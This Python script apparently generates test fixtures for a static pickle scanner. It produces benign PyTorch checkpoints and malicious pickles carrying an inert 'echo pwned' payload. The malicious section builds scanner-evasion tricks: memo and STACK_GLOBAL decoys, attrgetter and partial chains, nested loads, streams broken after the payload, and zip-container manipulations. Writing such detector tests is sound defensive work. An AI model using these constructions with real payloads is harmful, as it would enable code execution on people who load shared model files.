#!/usr/bin/env python3
"""Writes fixtures/interop-pickle/: benign PyTorch checkpoints and pickles,
and malicious ones carrying inert payloads, plus expected.json.

Why: openness reads pickles statically, so its tests need files made by the
real writers (torch.save, torch.jit.save, pickle) and files made the way
attackers make them (memo tricks, broken tails, zip tricks, nested loaders).

Safety: this script NEVER loads a malicious file. Payloads are strings such
as `os.system('echo pwned')` that only run if someone unpickles the file.
Only the benign files are loaded back, with torch.load(weights_only=True),
to record what torch itself reports (tensors, parameters, dtypes).

Usage: python3 scripts/make-pickle-fixtures.py [OUT_DIR]
Real torch is used when importable (`pip install torch numpy`); without it
the torch files are written by hand with the same opcodes and layout.
"""

import collections
import io
import json
import os
import pickle
import struct
import sys
import zipfile

OUT = sys.argv[1] if len(sys.argv) > 1 else os.path.join(
    os.path.dirname(os.path.abspath(__file__)), "..", "fixtures", "interop-pickle"
)
CMD = "echo pwned"

try:
    import torch  # noqa: F401

    HAVE_TORCH = True
except Exception:  # pragma: no cover - depends on the machine
    HAVE_TORCH = False

expected = {}


def write(name, data, verdict, **extra):
    with open(os.path.join(OUT, name), "wb") as f:
        f.write(data)
    entry = {"expected": verdict}
    entry.update(extra)
    expected[name] = entry


# -- hand-made opcode helpers (protocol 2 unless said otherwise) ----------

def glob(module, name):
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def ustr(s):
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def call1(module, name, arg_ops):
    """module.name(arg) as GLOBAL, one-tuple, REDUCE."""
    return glob(module, name) + arg_ops + b"\x85R"


def proto2(body):
    return b"\x80\x02" + body + b"."


OS_SYSTEM = proto2(call1("os", "system", ustr(CMD)))

# -- benign files ---------------------------------------------------------

SAFETENSORS_DTYPE = {
    "torch.float32": "F32",
    "torch.float16": "F16",
    "torch.bfloat16": "BF16",
    "torch.int64": "I64",
    "torch.float64": "F64",
    "torch.int32": "I32",
    "torch.uint8": "U8",
    "torch.bool": "BOOL",
}


def torch_counts(obj):
    """What torch reports for a loaded state dict: tensors, parameters,
    parameters per dtype."""
    tensors = [v for v in obj.values() if isinstance(v, torch.Tensor)]
    dtypes = collections.Counter()
    for t in tensors:
        dtypes[SAFETENSORS_DTYPE.get(str(t.dtype), str(t.dtype))] += t.numel()
    return {
        "tensors": len(tensors),
        "parameters": sum(t.numel() for t in tensors),
        "dtypes": dict(sorted(dtypes.items())),
    }


def state_dict():
    g = torch.Generator().manual_seed(0)
    return collections.OrderedDict(
        [
            ("layer.weight", torch.randn(4, 3, generator=g)),
            ("layer.bias", torch.zeros(4, dtype=torch.float16)),
            ("norm.weight", torch.ones(2, 5, dtype=torch.bfloat16)),
            ("positions", torch.arange(7)),
        ]
    )


class FakeStorage:
    """Stands in for torch.FloatStorage when torch is absent: pickles as
    GLOBAL torch.FloatStorage."""


def handmade_torch_zip(data_pkl, storages, top="archive", compress_pkl=False, before=()):
    """A torch.save-like zip: <top>/data.pkl, <top>/data/<key>, version,
    byteorder. `before` adds entries written ahead of data.pkl."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        for name, data, method in before:
            z.writestr(zipfile.ZipInfo(name), data, compress_type=method)
        method = zipfile.ZIP_DEFLATED if compress_pkl else zipfile.ZIP_STORED
        z.writestr(zipfile.ZipInfo(f"{top}/data.pkl"), data_pkl, compress_type=method)
        z.writestr(zipfile.ZipInfo(f"{top}/byteorder"), b"little")
        for key, data in storages:
            z.writestr(zipfile.ZipInfo(f"{top}/data/{key}"), data)
        z.writestr(zipfile.ZipInfo(f"{top}/version"), b"3\n")
    return buf.getvalue()


def handmade_data_pkl():
    """A protocol-2 data.pkl with the GLOBALs torch.save emits: one F32
    tensor of shape (2, 3) on storage '0'."""
    od = glob("collections", "OrderedDict") + b")R"
    pid = b"(" + ustr("storage") + glob("torch", "FloatStorage") + ustr("0") + ustr("cpu") + b"K\x06tQ"
    tensor = (
        glob("torch._utils", "_rebuild_tensor_v2")
        + b"(" + pid + b"K\x00K\x02K\x03\x86K\x03K\x01\x86\x89" + od + b"tR"
    )
    return b"\x80\x02" + od + ustr("w") + tensor + b"s."


def benign_files():
    if HAVE_TORCH:
        sd = state_dict()
        buf = io.BytesIO()
        torch.save(sd, buf)
        zip_bytes = buf.getvalue()
        buf = io.BytesIO()
        torch.save(sd, buf, _use_new_zipfile_serialization=False)
        legacy_bytes = buf.getvalue()
        # Counts as torch reports them after a weights_only load of our own
        # benign files.
        counts = torch_counts(torch.load(io.BytesIO(zip_bytes), weights_only=True))
        legacy_counts = torch_counts(torch.load(io.BytesIO(legacy_bytes), weights_only=True))
        write("benign-state-dict.pt", zip_bytes, "benign", container="torch-zip", **counts)
        write("benign-legacy.pt", legacy_bytes, "benign", container="torch-legacy", **legacy_counts)

        class Tiny(torch.nn.Module):
            def __init__(self):
                super().__init__()
                self.fc = torch.nn.Linear(3, 2)

            def forward(self, x):
                return self.fc(x)

        torch.manual_seed(0)
        scripted = torch.jit.script(Tiny())
        buf = io.BytesIO()
        torch.jit.save(scripted, buf)
        ts_counts = torch_counts(scripted.state_dict())
        write("benign-torchscript.pt", buf.getvalue(), "benign", container="torchscript", **ts_counts)
    else:
        data = struct.pack("<6f", *range(6))
        write(
            "benign-state-dict.pt",
            handmade_torch_zip(handmade_data_pkl(), [("0", data)]),
            "benign",
            container="torch-zip",
            tensors=1,
            parameters=6,
            dtypes={"F32": 6},
        )
    sklearn_like = {
        "coef_": [[0.5, -1.25, 2.0]],
        "intercept_": [0.125],
        "classes_": ["cat", "dog"],
        "params": collections.OrderedDict([("C", 1.0), ("penalty", "l2")]),
        "n_features_in_": 3,
        "feature_names": ("a", "b", "c"),
        "tags": {"linear", "binary"},
    }
    write("benign-sklearn-like.pkl", pickle.dumps(sklearn_like, protocol=4), "benign", container="pickle")


# -- malicious files ------------------------------------------------------

def malicious_files():
    write("mal-os-system.pkl", OS_SYSTEM, "malicious", container="pickle")

    # STACK_GLOBAL whose operands come from the memo through BINGET, with a
    # decoy string in between so the two preceding opcodes are BINGETs.
    memo = (
        b"\x80\x04\x8c\x02os\x94\x8c\x06system\x94\x8c\x05decoy0"
        b"h\x00h\x01\x93" + b"\x8c" + bytes([len(CMD)]) + CMD.encode() + b"\x85R."
    )
    write("mal-stack-global-memo.pkl", memo, "malicious", container="pickle")

    write(
        "mal-builtins-exec.pkl",
        proto2(call1("builtins", "exec", ustr(f"import os; os.system('{CMD}')"))),
        "malicious",
        container="pickle",
    )

    # operator.attrgetter('system')(builtins.__import__('os'))('echo pwned')
    attr = (
        glob("operator", "attrgetter") + ustr("system") + b"\x85R"
        + glob("builtins", "__import__") + ustr("os") + b"\x85R" + b"\x85R"
        + ustr(CMD) + b"\x85R"
    )
    write("mal-attrgetter-chain.pkl", proto2(attr), "malicious", container="pickle")

    # functools.partial(os.system, 'echo pwned')()
    partial = glob("functools", "partial") + glob("os", "system") + ustr(CMD) + b"\x86R)R"
    write("mal-functools-partial.pkl", proto2(partial), "malicious", container="pickle")

    # pickle.loads(<inner os.system pickle>): the payload hides in bytes.
    inner = OS_SYSTEM
    nested = glob("pickle", "loads") + b"C" + bytes([len(inner)]) + inner + b"\x85R"
    write("mal-nested-pickle-loads.pkl", b"\x80\x03" + nested + b".", "malicious", container="pickle")

    # nullifAI: payload first, then a stream that breaks before STOP.
    broken = b"\x80\x02" + call1("os", "system", ustr(CMD)) + b"0" + b"\x7fgarbage\xff\xfe"
    write("mal-broken-after-payload.pkl", broken, "malicious", container="pickle")

    write(
        "mal-builtin-eval.pkl",
        proto2(call1("__builtin__", "eval", ustr(f"__import__('os').system('{CMD}')"))),
        "malicious",
        container="pickle",
    )
    write(
        "mal-runpy.pkl",
        proto2(glob("runpy", "_run_code") + ustr(f"import os; os.system('{CMD}')") + b"}\x86R"),
        "malicious",
        container="pickle",
    )
    write(
        "mal-torch-load-nested.pkl",
        proto2(call1("torch.serialization", "load", ustr("/tmp/elsewhere.pt"))),
        "malicious",
        container="pickle",
    )

    # Torch containers.
    if HAVE_TORCH:
        buf = io.BytesIO()
        torch.save(state_dict(), buf)
        src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
        entries = [(i.filename, src.read(i.filename)) for i in src.infolist()]
    else:
        entries = [
            ("archive/data.pkl", handmade_data_pkl()),
            ("archive/data/0", struct.pack("<6f", *range(6))),
            ("archive/version", b"3\n"),
        ]
    top = entries[0][0].split("/")[0]
    data_pkl = dict(entries)[f"{top}/data.pkl"]
    # The payload runs, its result is popped, then the real state dict is
    # built: the file still loads as a normal checkpoint.
    payload = b"\x80\x02" + call1("os", "system", ustr(CMD)) + b"0" + data_pkl[2:]

    def rezip(replace, compress=(), before=()):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as z:
            for name, data, method in before:
                z.writestr(zipfile.ZipInfo(name), data, compress_type=method)
            for name, data in entries:
                method = zipfile.ZIP_DEFLATED if name in compress else zipfile.ZIP_STORED
                z.writestr(zipfile.ZipInfo(name), replace.get(name, data), compress_type=method)
        return out.getvalue()

    pkl_name = f"{top}/data.pkl"
    write("mal-torch-zip-payload.pt", rezip({pkl_name: payload}), "malicious", container="torch-zip")
    write(
        "mal-zip-deflated-data-pkl.pt",
        rezip({pkl_name: payload}, compress={pkl_name}),
        "malicious",
        container="torch-zip",
        anomaly="compressed",
    )
    # A deflated .pkl entry whose deflate stream is garbage, ahead of
    # data.pkl: readers that give up on the first bad entry miss the payload.
    corrupt = rezip({pkl_name: payload}, before=[(f"{top}/aaa-corrupt.pkl", b"\x00" * 64, zipfile.ZIP_DEFLATED)])
    bad_name = f"{top}/aaa-corrupt.pkl".encode()
    marker = corrupt.find(bad_name)  # first hit: the local header's name
    # Overwrite the entry's (valid) deflate data with bytes that are not a
    # deflate stream; sizes and CRC stay as they were.
    data_at = marker + len(bad_name)
    comp_len = struct.unpack("<I", corrupt[marker - 12:marker - 8])[0]
    corrupt = corrupt[:data_at] + b"\xff" * comp_len + corrupt[data_at + comp_len:]
    write(
        "mal-zip-corrupt-entry-first.pt",
        corrupt,
        "malicious",
        container="torch-zip",
        anomaly="cannot be read",
    )
    # No central directory at all: only a local-header walk finds data.pkl.
    whole = rezip({pkl_name: payload})
    cd = whole.find(b"PK\x01\x02")
    write(
        "mal-zip-no-central-directory.pt",
        whole[:cd],
        "malicious",
        container="torch-zip",
        anomaly="rejects",
    )

    if HAVE_TORCH:
        buf = io.BytesIO()
        torch.save(state_dict(), buf, _use_new_zipfile_serialization=False)
        legacy = buf.getvalue()
        second = b"\x80\x02M\xe9\x03."
        assert legacy.count(second) >= 1
        # The protocol pickle must still evaluate to 1001 for torch to go on.
        evil = proto2(call1("builtins", "eval", ustr(f"__import__('os').system('{CMD}') or 1001")))
        write(
            "mal-legacy-second-pickle.pt",
            legacy.replace(second, evil, 1),
            "malicious",
            container="torch-legacy",
        )

    try:
        from fickling.fickle import Pickled

        benign = pickle.dumps({"weights": [1.0, 2.0]}, protocol=2)
        p = Pickled.load(benign)
        p.insert_python_exec(f"__import__('os').system('{CMD}')", run_first=True, use_output_as_unpickle_result=False)
        write("mal-fickling-injected.pkl", p.dumps(), "malicious", container="pickle", made_by="fickling")
    except Exception as e:  # fickling is optional
        print(f"fickling injection skipped: {e}", file=sys.stderr)


def main():
    os.makedirs(OUT, exist_ok=True)
    benign_files()
    malicious_files()
    with open(os.path.join(OUT, "expected.json"), "w") as f:
        json.dump(
            {"made_with_torch": HAVE_TORCH and torch.__version__.split("+")[0], "files": expected},
            f,
            indent=2,
            sort_keys=True,
        )
        f.write("\n")
    total = sum(os.path.getsize(os.path.join(OUT, n)) for n in os.listdir(OUT))
    print(f"wrote {len(expected)} fixtures, {total} bytes, to {OUT}")


if __name__ == "__main__":
    main()
